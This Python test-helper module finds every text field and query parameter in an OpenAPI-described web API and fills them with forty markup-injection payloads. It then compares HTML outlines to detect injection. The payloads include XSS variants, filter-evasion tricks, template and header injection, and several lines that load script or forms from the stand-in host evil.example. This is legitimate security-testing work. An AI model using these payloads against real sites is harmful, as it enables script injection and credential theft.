"""Forty ways to smuggle markup in, the text fields they are tried in, and what HTML is made of."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

#: Scripts, handlers, addresses, documents in documents, ways out of where a text may stand, tricks
#: on filters, templates, headers, other encodings. Short, so that most fields have room for them.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><button>log in",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example';</style>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></p></textarea></style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "{{7*7}}{% debug %}${7*7}<%= 7*7 %>",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<\u200bscript>\uff1cscript\uff1ealert(1)&lt;script&gt;",
)

#: Where a part of a body needs more than the field that is tried to be accepted.
WHOLES: dict[str, Any] = {
    "lots": [{"title": "A key", "lot_number": 1}],
    "soft_close": {"window_seconds": 60, "extension_seconds": 60},
    "quiet_hours": {"start": "22:00", "end": "07:00"},
}

Path = tuple[str | int, ...]


@dataclass(frozen=True)
class TextField:
    """A place for text in what an operation is sent."""

    operation: str  # as the table of authorisation has it
    path: Path
    is_free: bool  # any text will do: neither one of some words nor a number, an instant, …

    @property
    def payloads(self) -> tuple[str, ...]:
        """Return what is tried: of what must be a number or a word, a few are enough."""
        return PAYLOADS if self.is_free else PAYLOADS[::8]

    def __str__(self) -> str:
        return f"{self.operation} {'.'.join(map(str, self.path))}"

    def filled(self, body: Mapping[str, Any], text: str) -> dict[str, Any]:
        """Return a body with a text in this place."""
        return put(dict(body), self.path, text)


def put(node: Any, path: Path, text: str) -> Any:
    """Return a value in which the text stands at a path; makes what is missing on the way."""
    if not path:
        return text
    head, *rest = path
    if isinstance(head, int):
        first = node[0] if isinstance(node, list) and node else {}
        return [put(first, tuple(rest), text)]
    known = dict(node) if isinstance(node, Mapping) else {}
    inner = known.get(head, WHOLES.get(head))
    return {**known, head: put(inner, tuple(rest), text)}


def text_fields(document: dict[str, Any]) -> list[TextField]:
    """Return each place for text in each body the OpenAPI document describes."""
    found = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            name = f"{method.upper()} {path}"
            for kind, content in operation.get("requestBody", {}).get("content", {}).items():
                if kind == "application/json":
                    places = dict(_texts(content["schema"], document, ()))
                    found += [TextField(name, *place) for place in sorted(places.items(), key=str)]
    return found


def text_parameters(document: dict[str, Any]) -> list[tuple[str, str]]:
    """Return (path, name) of each text in the query of a GET without ids in its path."""
    parameters = (
        (path, _resolved(parameter, document))
        for path, operations in document["paths"].items()
        for parameter in operations.get("get", {}).get("parameters", ())
        if "{" not in path
    )
    return [(path, found["name"]) for path, found in parameters if found["in"] == "query"]


def _resolved(node: dict[str, Any], document: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        value: Any = document
        for part in node["$ref"].removeprefix("#/").split("/"):
            value = value[part]
        node = value
    return node


def _texts(
    schema: dict[str, Any], document: dict[str, Any], path: Path
) -> Iterator[tuple[Path, bool]]:
    schema = _resolved(schema, document)
    for choice in (*schema.get("oneOf", ()), *schema.get("anyOf", ()), *schema.get("allOf", ())):
        yield from _texts(choice, document, path)
    kinds = schema.get("type", ())
    kinds = {kinds} if isinstance(kinds, str) else set(kinds)
    if "string" in kinds:
        yield path, not (kinds - {"string", "null"} or _is_ruled(schema))
    for name, inner in schema.get("properties", {}).items():
        yield from _texts(inner, document, (*path, name))
    if "items" in schema:
        yield from _texts(schema["items"], document, (*path, 0))
    if isinstance(schema.get("additionalProperties"), dict):
        yield from _texts(schema["additionalProperties"], document, (*path, "any"))


def _is_ruled(schema: dict[str, Any]) -> bool:
    """Tell whether a text is one of some words, or an instant."""
    return "enum" in schema or schema.get("format") in ("date-time", "date", "time")


class _Outline(HTMLParser):
    """Gathers what a browser would make of a page, and the text between."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")
        self.links += [value or "" for name, value in attrs if name in LINKING]

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.parts.append("<!-- -->")

    def unknown_decl(self, data: str) -> None:
        self.parts.append("<![ ]>")


LINKING = {"href", "src", "action", "formaction", "data", "srcset", "poster", "background"}


@dataclass(frozen=True)
class Outline:
    """A page's elements and attributes in their order, where it links to, and its text."""

    parts: tuple[str, ...]
    links: tuple[str, ...]
    text: str


def outline(html: str) -> Outline:
    """Return what a page is made of: the same whatever text stands in it."""
    parser = _Outline()
    parser.feed(html)
    parser.close()
    return Outline(tuple(parser.parts), tuple(parser.links), "".join(parser.text))
